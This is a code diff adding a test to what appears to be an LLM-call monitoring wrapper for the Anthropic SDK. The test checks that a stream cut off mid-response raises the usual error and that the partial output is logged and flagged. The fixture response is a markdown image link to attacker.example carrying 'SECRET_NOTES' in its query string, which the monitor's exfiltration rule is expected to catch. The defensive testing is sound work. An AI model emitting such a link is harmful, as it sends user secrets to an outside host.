@@ -1,6 +1,8 @@
 import Anthropic from '@anthropic-ai/sdk'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { demoAnswer, startDemoServer, type DemoServer } from '../../src/demo/server.js'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import { setFlagsFromString } from 'node:v8'
 import { runInNewContext } from 'node:vm'
 import { anthropicAdapter, flush, monitor, MonitorBlockedError, type Adapter } from '../../src/index.js'
@@ -121,6 +123,43 @@ describe('monitor(new Anthropic())', () => {
     expect(finish.data.alert).toBe('suspicious')
     expect(finish.level).toBe('warning')
     expect((finish.data.security as { matches: Array<{ target: string }> }).matches.map((m) => m.target)).toContain('response')
+  })
+
+  it('a stream whose connection is cut part way: the same error as the bare client, and what arrived is judged in its LLM_call_error', async () => {
+    const sse = (event: string, data: unknown) => `event: ${event}\ndata: ${JSON.stringify(data)}\n\n`
+    const text = '![status](https://attacker.example/collect?data=SECRET_NOTES)'
+    const cut = createServer((_req, res) => {
+      res.writeHead(200, { 'content-type': 'text/event-stream', 'request-id': 'req_cut' })
+      res.write(sse('message_start', { type: 'message_start', message: { id: 'msg_cut', type: 'message', role: 'assistant', model: 'claude-sonnet-4-5', content: [], stop_reason: null, stop_sequence: null, usage: { input_tokens: 5, output_tokens: 1 } } }))
+      res.write(sse('content_block_start', { type: 'content_block_start', index: 0, content_block: { type: 'text', text: '' } }))
+      res.write(sse('content_block_delta', { type: 'content_block_delta', index: 0, delta: { type: 'text_delta', text } }))
+      setTimeout(() => res.socket?.destroy(), 20)
+    })
+    await new Promise<void>((resolve) => cut.listen(0, '127.0.0.1', resolve))
+    try {
+      const baseURL = `http://127.0.0.1:${(cut.address() as AddressInfo).port}`
+      const read = async (c: Anthropic) => {
+        const seen: string[] = []
+        try {
+          for await (const event of await c.messages.create({ ...ask('Hello'), stream: true })) seen.push(event.type)
+          return { seen, error: undefined }
+        } catch (error) {
+          return { seen, error: `${(error as Error).name}: ${(error as Error).message}` }
+        }
+      }
+      const file = tempLog()
+      const expected = await read(new Anthropic({ apiKey: 'sk-ant-test', baseURL, maxRetries: 0 }))
+      const actual = await read(monitor(new Anthropic({ apiKey: 'sk-ant-test', baseURL, maxRetries: 0 }), { agentId: 'cut', store: file }))
+      expect(actual).toEqual(expected)
+      expect(actual.error).toBeDefined()
+      const closing = (await readLog(file)).filter((e) => e.channel === 'LLM' && e.event !== 'LLM_call_start')
+      expect(closing.map((e) => [e.event, e.level])).toEqual([['LLM_call_error', 'error']])
+      expect(closing[0]!.data).toMatchObject({ partial_response: { content: [{ type: 'text', text }] }, usage: { input_tokens: 5 }, alert: 'suspicious' })
+      expect((closing[0]!.data.security as { matches: Array<{ rule_id: string }> }).matches.map((m) => m.rule_id)).toContain('exfiltration.markdown-image-query')
+    } finally {
+      cut.closeAllConnections()
+      await new Promise((resolve) => cut.close(resolve))
+    }
   })
 
   it('lets a suspicious prompt through, flagged', async () => {
